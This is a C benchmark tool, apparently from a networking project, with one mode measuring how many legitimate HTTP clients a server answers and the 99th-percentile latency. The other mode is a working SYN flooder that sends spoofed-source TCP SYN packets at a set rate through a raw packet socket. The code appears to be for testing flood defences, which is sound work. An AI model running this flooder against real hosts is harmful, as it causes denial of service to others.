/* The two sides of scripts/flood: strangers who begin and never come back, and clients who want to be served.
 *
 *   flood attack DEVICE MAC ADDRESS PORT RATE SECONDS    SYNs per second from made-up addresses, by a packet socket: prints how many left
 *   flood clients ADDRESS PORT RATE SECONDS              connections per second, one request each, by the machine's own stack or the preloaded one:
 *                                                        prints how many were begun, how many were answered whole, and the slowest of 99 %, ms
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* How long a client waits for its answer, s; most clients at once; SYNs for one system call. */
enum { PATIENCE = 3, CLIENTS_MAX = 16384, BATCH = 32 };

static void die(const char *what) {
    perror(what);
    exit(1);
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void sleep_until(double when) {
    struct timespec t = {.tv_sec = (time_t)when, .tv_nsec = (long)((when - (double)(time_t)when) * 1e9)};
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &t, NULL);
}

static uint64_t random_state = 88172645463325252u;

/* Marsaglia's xorshift: the same strangers in every run. */
static uint32_t random_bits(void) {
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return (uint32_t)(random_state >> 16);
}

struct syn {
    struct ether_header ether;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t options[20];
} __attribute__((packed));

static uint32_t sum_of(const void *bytes, size_t count, uint32_t sum) {
    const uint8_t *at = bytes;
    for (size_t i = 0; i + 1 < count; i += 2) sum += (uint32_t)at[i] << 8 | at[i + 1];
    return sum;
}

static uint16_t checksum(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* A SYN as Linux sends it, from an address of 10.128.0.0/9. */
static void make_syn(struct syn *syn, const uint8_t *mac, struct in_addr target, uint16_t port) {
    static const uint8_t options[] = {2, 4, 5, 180, 4, 2, 8, 10, 1, 2, 3, 4, 0, 0, 0, 0, 1, 3, 3, 7};
    memset(syn, 0, sizeof *syn);
    memcpy(syn->ether.ether_dhost, mac, ETH_ALEN);
    memcpy(syn->ether.ether_shost, (uint8_t[]){2, 0, 0, 0, 0, 0x66}, ETH_ALEN);
    syn->ether.ether_type = htons(ETHERTYPE_IP);
    syn->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
    syn->ip.tot_len = htons(sizeof *syn - sizeof syn->ether);
    syn->ip.frag_off = htons(IP_DF);
    syn->ip.saddr = htonl(10u << 24 | 1u << 23 | (random_bits() & 0x7fffff));
    syn->ip.daddr = target.s_addr;
    syn->ip.check = checksum(sum_of(&syn->ip, sizeof syn->ip, 0));
    syn->tcp.source = htons((uint16_t)(1024 + random_bits() % 60000));
    syn->tcp.dest = htons(port);
    syn->tcp.seq = random_bits();
    syn->tcp.doff = (sizeof syn->tcp + sizeof syn->options) / 4;
    syn->tcp.syn = 1;
    syn->tcp.window = htons(64240);
    memcpy(syn->options, options, sizeof options);
    uint32_t sum = sum_of(&syn->ip.saddr, 8, IPPROTO_TCP + sizeof syn->tcp + sizeof syn->options);
    syn->tcp.check = checksum(sum_of(&syn->tcp, sizeof syn->tcp + sizeof syn->options, sum));
}

static int attack(char **arg) {
    static struct syn syns[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    struct iovec pieces[BATCH];
    struct in_addr target;
    uint8_t mac[ETH_ALEN];
    if (sscanf(arg[1], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != ETH_ALEN) return 2;
    if (!inet_aton(arg[2], &target)) return 2;
    double rate = atof(arg[4]), start = now(), end = start + atof(arg[5]);
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll device = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(arg[0])};
    if (fd < 0 || bind(fd, (struct sockaddr *)&device, sizeof device) < 0) die(arg[0]);
    for (int i = 0; i < BATCH; i++) {
        pieces[i] = (struct iovec){&syns[i], sizeof syns[i]};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &pieces[i], .msg_iovlen = 1};
    }
    long sent = 0;
    for (long turn = 0;; turn++) {
        double due = start + (double)turn * BATCH / rate;
        if (due >= end) break;
        for (int i = 0; i < BATCH; i++) make_syn(&syns[i], mac, target, (uint16_t)atoi(arg[3]));
        if (due > now()) sleep_until(due);
        int left = sendmmsg(fd, messages, BATCH, 0);
        if (left > 0) sent += left;
    }
    printf("%ld\n", sent);
    return 0;
}

struct client {
    int fd;
    double begun;
    uint64_t bytes;
};

static int by_size(const void *a, const void *b) {
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static int clients(char **arg) {
    static const char request[] = "GET / HTTP/1.0\r\n\r\n";
    static struct client all[CLIENTS_MAX];
    static double times[CLIENTS_MAX];
    struct sockaddr_in server = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(arg[1]))};
    if (!inet_aton(arg[0], &server.sin_addr)) return 2;
    double rate = atof(arg[2]), seconds = atof(arg[3]), start = now();
    long wanted = (long)(rate * seconds), begun = 0, served = 0;
    if (wanted > CLIENTS_MAX) return 2;
    int set = epoll_create1(0);
    while (now() < start + seconds + PATIENCE && (begun < wanted || served < wanted)) {
        for (; begun < wanted && now() >= start + (double)begun / rate; begun++) {
            struct client *client = &all[begun];
            *client = (struct client){socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), now(), 0};
            if (client->fd < 0) die("socket");
            if (connect(client->fd, (struct sockaddr *)&server, sizeof server) < 0 && errno != EINPROGRESS) die("connect");
            epoll_ctl(set, EPOLL_CTL_ADD, client->fd, &(struct epoll_event){.events = EPOLLOUT, .data.u64 = (uint64_t)begun});
        }
        struct epoll_event events[64];
        int count = epoll_wait(set, events, 64, 1);
        for (int i = 0; i < count; i++) {
            struct client *client = &all[events[i].data.u64];
            if (events[i].events & EPOLLOUT) {
                if (send(client->fd, request, sizeof request - 1, MSG_NOSIGNAL) < 0) events[i].events |= EPOLLERR;
                epoll_ctl(set, EPOLL_CTL_MOD, client->fd, &(struct epoll_event){.events = EPOLLIN, .data = events[i].data});
            }
            if (events[i].events & (EPOLLIN | EPOLLERR | EPOLLHUP)) {
                char answer[4096];
                ssize_t got = recv(client->fd, answer, sizeof answer, 0);
                if (got > 0) {
                    client->bytes += (uint64_t)got;
                } else if (got == 0 || errno != EAGAIN) {
                    if (got == 0 && client->bytes > 0) times[served++] = now() - client->begun;
                    close(client->fd);
                }
            }
        }
    }
    qsort(times, (size_t)served, sizeof *times, by_size);
    printf("%ld %ld %.1f\n", wanted, served, served ? times[served * 99 / 100] * 1e3 : 0);
    return 0;
}

int main(int count, char **arg) {
    if (count == 8 && !strcmp(arg[1], "attack")) return attack(arg + 2);
    if (count == 6 && !strcmp(arg[1], "clients")) return clients(arg + 2);
    fprintf(stderr, "usage: flood attack DEVICE MAC ADDRESS PORT RATE SECONDS | flood clients ADDRESS PORT RATE SECONDS\n");
    return 2;
}
